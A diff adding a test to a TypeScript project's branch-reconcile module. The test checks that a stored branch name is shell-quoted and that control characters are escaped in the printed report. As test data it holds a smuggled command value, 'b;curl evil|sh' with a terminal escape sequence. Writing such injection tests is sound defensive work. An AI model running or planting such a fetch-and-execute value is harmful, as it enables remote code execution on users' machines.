@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { planReconcile, type ReconcileFacts } from '../../src/checkpoint/reconcile.js';
 import { emptyContent, SCHEMA_ID, type CheckpointRecord, type WorktreeFile } from '../../src/checkpoint/schema.js';
+import { renderReconcile } from '../../src/render/reconcile.js';
 
 const H1 = '1'.repeat(40);
 const H2 = '2'.repeat(40);
@@ -29,6 +30,15 @@ function facts(over: Partial<ReconcileFacts> = {}): ReconcileFacts {
 }
 
 describe('planReconcile: branch', () => {
+  it("quotes a stored branch name for the shell, and the report prints it without raw controls", () => {
+    const hostile = 'b;curl evil|sh \x1b]0;owned\x07';
+    const r = planReconcile(record({ branch: hostile }), facts());
+    expect(r.branch.fix).toBe("git switch 'b;curl evil|sh \x1b]0;owned\x07'");
+    const text = renderReconcile(r, { color: false, maxPaths: 20, heading: false });
+    expect(text).toContain("fix: git switch 'b;curl evil|sh \\x1b]0;owned\\x07'");
+    expect(text).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f]/);
+  });
+
   it.each([
     ['match', facts(), 'match', null],
     ['another branch', facts({ currentBranch: 'other' }), 'mismatch', 'git switch main'],
